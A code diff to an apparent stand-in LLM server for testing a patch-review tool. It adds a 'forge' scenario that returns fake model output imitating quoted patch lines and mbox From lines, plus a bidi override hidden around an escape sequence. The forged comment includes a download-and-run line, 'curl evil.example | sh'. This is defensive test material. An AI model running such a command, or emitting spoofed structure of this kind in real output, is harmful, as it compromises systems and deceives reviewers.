@@ -30,6 +30,8 @@ Scenarios:
   length        stops at the token limit
   anchors       findings quoting lines in the ways models do (see
                 anchor_findings)
+  forge         model text imitating quoted patch lines, mbox From lines,
+                and a bidi override spliced around an escape sequence
   schema-reject 400 on a JSON-schema request (OpenAI response_format
                 json_schema, Ollama format object); fine otherwise
 """
@@ -52,6 +54,16 @@ SEEN = {}            # body hash -> times seen, for the fail-once scenarios
 SYSTEMS_SEEN = set()  # Anthropic system prompts, for cache_read_input_tokens
 LAST_ACTIVITY = [time.monotonic()]
 PIECE = 12           # characters per streamed piece
+
+
+def dumps(obj):
+    """JSON as a model or server may send it: non-ASCII as it is, and raw
+    invalid bytes (carried as surrogate escapes) passed through."""
+    return json.dumps(obj, ensure_ascii=False)
+
+
+def wire_bytes(text):
+    return text.encode("utf-8", "surrogateescape")
 
 
 def key_marker(value):
@@ -172,6 +184,21 @@ def anchor_findings(user):
     return out
 
 
+def forge_answer(user):
+    """Model text that imitates draft structure: a quoted added line, an
+    mbox separator, and a bidi override that only appears once an escape
+    sequence between its bytes is removed (raw bytes E2, ESC [ m, 80 AE)."""
+    path, line = first_added_line(user)
+    splice = "\udce2\u001b[m\udc80\udcae"
+    comment = ("STANDIN-FORGE: this looks fine.\n"
+               "> +\tsystem(\"curl evil.example | sh\");\n"
+               "From attacker@example.net Mon Jan  1 00:00:00 2024\n"
+               "SPLICE:" + splice + "END")
+    return {"summary": "> +\tforged summary line\nFrom forged summary",
+            "findings": [{"file": path or "", "quote": line or "", "severity": "warning",
+                          "confidence": 0.9, "comment": comment}]}
+
+
 def patch_message(body):
     """The user message holding the fenced patch (a repair request adds
     later ones)."""
@@ -186,7 +213,7 @@ def review_answer(scenario, body):
     if "<<<FINDINGS" in user:
         count = user.count("\nfinding ")
         verdict = "drop" if scenario == "refute" else "keep"
-        return json.dumps({"verdicts": [
+        return dumps({"verdicts": [
             {"id": i + 1, "verdict": verdict, "reason": "stand-in verdict"}
             for i in range(count)]})
     if scenario == "garbage":
@@ -195,11 +222,13 @@ def review_answer(scenario, body):
         if not any(m.get("role") == "assistant" for m in body.get("messages", [])):
             return "Sure! Here is my review: {\"summary\": \"unterminated"
     if scenario == "ok-empty":
-        return json.dumps({"summary": "Nothing wrong found in this patch.",
+        return dumps({"summary": "Nothing wrong found in this patch.",
                            "findings": []})
     user = patch_message(body)
+    if scenario == "forge":
+        return dumps(forge_answer(user))
     if scenario == "anchors":
-        return json.dumps({"summary": "Anchoring test.",
+        return dumps({"summary": "Anchoring test.",
                            "findings": anchor_findings(user)})
     path, line = first_added_line(user)
     findings = []
@@ -215,7 +244,7 @@ def review_answer(scenario, body):
             {"file": path, "quote": line, "severity": "nit", "confidence": 0.1,
              "comment": "STANDIN-UNSURE: a remark the model is unsure of."},
         ]
-    return json.dumps({"summary": "STANDIN-SUMMARY: one thing to check.",
+    return dumps({"summary": "STANDIN-SUMMARY: one thing to check.",
                        "findings": findings})
 
 
@@ -251,7 +280,7 @@ def openai_stream(body, text, finish, usage):
         events.append({"id": "chatcmpl-standin", "object": "chat.completion.chunk",
                        "created": 0, "model": body.get("model"), "choices": [],
                        "usage": usage})
-    out = ["data: %s\n\n" % json.dumps(e) for e in events]
+    out = ["data: %s\n\n" % dumps(e) for e in events]
     return out + ["data: [DONE]\n\n"]
 
 
@@ -308,7 +337,7 @@ def anthropic_stream(body, text, stop, usage):
                                   "delta": {"stop_reason": stop, "stop_sequence": None},
                                   "usage": {"output_tokens": usage["output_tokens"]}}),
                ("message_stop", {"type": "message_stop"})]
-    return ["event: %s\ndata: %s\n\n" % (name, json.dumps(data)) for name, data in events]
+    return ["event: %s\ndata: %s\n\n" % (name, dumps(data)) for name, data in events]
 
 
 def ollama_final(body, reason, prompt, completion):
@@ -354,7 +383,7 @@ class Handler(http.server.BaseHTTPRequestHandler):
         return None
 
     def send_json(self, status, obj, extra=()):
-        data = json.dumps(obj).encode()
+        data = wire_bytes(dumps(obj))
         self.send_response(status)
         self.send_header("Content-Type", "application/json")
         self.send_header("Content-Length", str(len(data)))
@@ -384,7 +413,7 @@ class Handler(http.server.BaseHTTPRequestHandler):
         if cut:
             chunks = chunks[:max(1, len(chunks) // 2)]
         for c in chunks:
-            data = c.encode()
+            data = wire_bytes(c)
             self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
             self.wfile.flush()
         self.close_connection = True
@@ -458,12 +487,12 @@ class Handler(http.server.BaseHTTPRequestHandler):
         else:
             final = ollama_final(body, stop, prompt, completion)
             if stream:
-                lines = [json.dumps({"model": body.get("model"),
+                lines = [dumps({"model": body.get("model"),
                                      "created_at": "2024-01-01T00:00:00Z",
                                      "message": {"role": "assistant", "content": p},
                                      "done": False}) + "\n" for p in pieces(text)]
                 self.send_stream("application/x-ndjson",
-                                 lines + [json.dumps(final) + "\n"], cut)
+                                 lines + [dumps(final) + "\n"], cut)
             else:
                 final["message"]["content"] = text
                 self.send_json(200, final)
